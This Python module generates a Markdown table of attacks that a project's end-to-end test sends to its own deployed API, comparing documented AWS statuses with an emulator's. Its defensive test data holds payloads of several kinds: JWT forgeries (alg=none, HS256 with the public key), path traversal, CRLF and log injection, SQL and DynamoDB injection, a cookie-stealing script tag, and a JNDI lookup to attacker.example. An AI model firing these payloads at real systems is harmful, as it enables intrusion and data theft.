"""Write docs/attacks.md: attacks on the API, with the status that AWS documents and that of the embedded cloud.

`tests/e2e/test_attacks.py` sends these attacks to a deployed stack.
"""

from dataclasses import dataclass
from urllib.parse import quote, unquote

from tools.documents import DOCS, command_line, table, write

DOCUMENT = DOCS / "attacks.md"

APIGATEWAY = "https://docs.aws.amazon.com/apigateway/latest/developerguide"
SOURCES = {
    "gateway responses": f"{APIGATEWAY}/supported-gateway-response-types.html",
    "401 from an authorizer": "https://repost.aws/knowledge-center/api-gateway-cognito-401-unauthorized",
    "important notes": f"{APIGATEWAY}/api-gateway-known-issues.html",
    "our handler": "../handlers/query.py",
}
UNDOCUMENTED = "not documented"
VICTIM = "victim@example.com"


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A request that must not obtain data."""

    what: str
    aws: str
    """The status that AWS documents, or what AWS documents instead of a status."""
    source: str
    """The document that says so: a key of SOURCES."""
    here: int
    """The status that the embedded cloud returns."""
    difference: str = ""
    """Why `here` differs from `aws`; empty if it does not."""
    token: str = "valid"  # noqa: S105 (the name of a token)
    """A key of `tests.e2e.forgery.FORGERIES`."""
    method: str = "GET"
    target: bytes = b"/users/" + quote(VICTIM).encode() + b"/services"
    """The request's path below the stage, as sent."""
    headers: tuple[bytes, ...] = ()
    reaches_handler: bool = False

    @property
    def user_id(self) -> str:
        """The user ID in the path, decoded once."""
        return unquote(self.target.split(b"/")[2].decode()) if self.target.count(b"/") > 1 else ""


def _path(user_id: str) -> bytes:
    """The path of a user, encoded as a correct client does."""
    return f"/users/{quote(user_id, safe='')}/services".encode()


def _token(token: str, aws: str = "401", source: str = "401 from an authorizer", difference: str = "") -> Attack:
    return Attack(what=f"token: {token}", aws=aws, source=source, here=401, difference=difference, token=token)


def _no_route(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
    return Attack(what=what, aws="403", source="gateway responses", here=403, method=method, target=target)


def _user_id(what: str, user_id: str, *, here: int = 200, target: bytes = b"") -> Attack:
    """A request for a user ID that no user has: an empty list (200), or an invalid user ID (400)."""
    fields = {"source": "our handler", "here": here, "target": target or _path(user_id), "reaches_handler": True}
    return Attack(what=f"user ID: {what}", aws=str(here), **fields)


def _not_encoded(what: str, target: bytes) -> Attack:
    difference = "Only another user's data or implementation details would be wrong."
    fields = {"source": "important notes", "here": 400, "difference": difference, "target": target}
    return Attack(what=f"user ID: {what}, not encoded", aws=UNDOCUMENTED, **fields)


HEADING = """# Attacks on the API

<!-- Generated from tools/attacks.py by: python -m tools.attacks -->

`tests/e2e/test_attacks.py` sends these requests to a deployed stack. The table shows the status that AWS documents for
each request, and the status that the embedded cloud returns. For every request, the test checks that:

- the response contains no data of any user other than the requested one;
- an error response repeats nothing of the request;
- the response reveals no implementation details;
- a request that API Gateway rejects does not reach the function;
- the table is unchanged;
- the function's log contains no user IDs and no lines injected by the request.

Where the source is our handler, AWS documents no status: API Gateway passes the path on, and the function decides.
Statuses of AWS are those in the sources; none of these requests was sent to AWS.

"""
TOKENS = (
    *("none", "garbage", "truncated", "without its signature", "with one bit flipped in the signature"),
    *("with other claims under its signature", "unsigned (alg=none)", "signed with the public key (alg=HS256)"),
    *("signed with a key of the attacker's (alg=RS256)", "expired", "of another pool", "an id token"),
)
ATTACKS = (
    *map(_token, TOKENS),
    _token(
        "of another scope",
        aws="401 or 403",
        source="gateway responses",
        difference="AWS documents both for an authorizer that denies; the request is rejected either way.",
    ),
    _no_route("the root", target=b"/"),
    _no_route("all users", target=b"/users"),
    _no_route("a user, not the services", target=b"/users/victim"),
    _no_route("below the services", target=b"/users/victim/services/x"),
    *(_no_route(method, method) for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")),
    _no_route("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
    _no_route(
        "dots, encoded, as segments: /users/x/%2e%2e/victim/services",
        target=b"/users/x/%2e%2e/victim%40example.com/services",
    ),
    Attack(
        what="a method in X-HTTP-Method-Override",
        aws="403, as for the other method",
        source="important notes",
        here=200,
        difference="The emulator does not override methods.",
        headers=(b"X-HTTP-Method-Override: DELETE",),
        target=_path("nobody"),
        reaches_handler=True,
    ),
    _user_id("an encoded slash", "x/../../" + VICTIM),
    _user_id("an encoded slash, encoded twice", "x%2f" + VICTIM),
    _user_id("dots alone", "..", here=400),
    _user_id("an encoded NUL", VICTIM + "\0", here=400),
    _user_id("an encoded line break (CRLF injection)", VICTIM + "\r\nSet-Cookie: stolen=yes", here=400),
    _user_id("a forged log line", 'x\n{"level":"ERROR","message":"forged"}', here=400),
    _user_id("a letter that looks like another", "vict\u0456m@example.com"),
    _user_id("a right-to-left override", "\u202e" + VICTIM, here=400),
    _user_id("a trailing space", VICTIM + " "),
    _user_id("256 characters", "x" * 256, here=400),
    _user_id("255 characters of four bytes", "\U0001f600" * 255),
    _user_id("a DynamoDB expression", "x OR attribute_exists(user_id) #n :v"),
    _user_id("SQL", "' OR '1'='1' --"),
    _user_id("HTML", "<script>alert(document.cookie)</script>"),
    _user_id("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
    _not_encoded("a non-ASCII letter", "/users/vict\u0456m/services".encode()),
    _not_encoded("a NUL", b"/users/victim\0/services"),
    _user_id("12,000 characters", "x" * 12_000, here=400),
    _user_id("not UTF-8", "", here=400, target=b"/users/%ff%fe/services"),
    _user_id("a space", " ", here=400),
)


def document() -> str:
    """The text of docs/attacks.md."""
    rows = []
    for attack in ATTACKS:
        source = f"[{attack.source}]({SOURCES[attack.source]})"
        rows.append((attack.what, attack.aws, source, str(attack.here), attack.difference or "none"))
    return f"{HEADING}{table(('attack', 'AWS', 'source', 'embedded cloud', 'difference'), rows)}\n"


if __name__ == "__main__":
    command_line("attacks", __doc__).parse_args()
    write(DOCUMENT, document())
